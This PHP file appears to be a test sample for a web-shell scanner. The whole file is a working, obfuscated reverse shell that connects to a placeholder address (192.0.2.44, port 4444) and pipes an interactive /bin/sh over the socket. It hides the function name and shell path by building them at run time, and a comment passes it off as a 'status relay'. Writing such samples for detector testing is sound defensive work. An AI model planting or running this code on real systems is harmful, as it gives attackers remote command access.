<?php
// Inert test sample for webhunt: a reverse shell whose address, function name and shell path are
// built at run time; the socket is the shell's output and each line read from it its input.
// "status relay": keeps a line to the monitoring host open
$a = implode('.', array(192, 0, 2, 44));
$p = 4000 + 444;
$f = 'fsock' . 'open';
$c = @$f($a, $p);
$sh = chr(47) . 'bin' . chr(47) . 's' . 'h';
$spec = array(0 => array('pipe', 'r'), 1 => $c, 2 => $c);
$proc = proc_open($sh . ' -i', $spec, $io);
while (!feof($c)) {
    $line = fgets($c);
    fwrite($io[0], $line);
}
